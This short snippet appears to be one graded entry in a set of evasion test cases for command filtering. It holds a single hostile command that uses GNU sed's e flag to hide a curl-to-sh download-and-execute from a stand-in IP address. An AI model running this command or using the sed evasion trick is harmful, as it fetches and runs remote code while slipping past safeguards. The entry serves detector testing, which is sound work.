# evasion: GNU sed e command runs a shell command
# grade: hard; does: download-exec
echo | sed '1e curl -s http://203.0.113.5/s | sh'
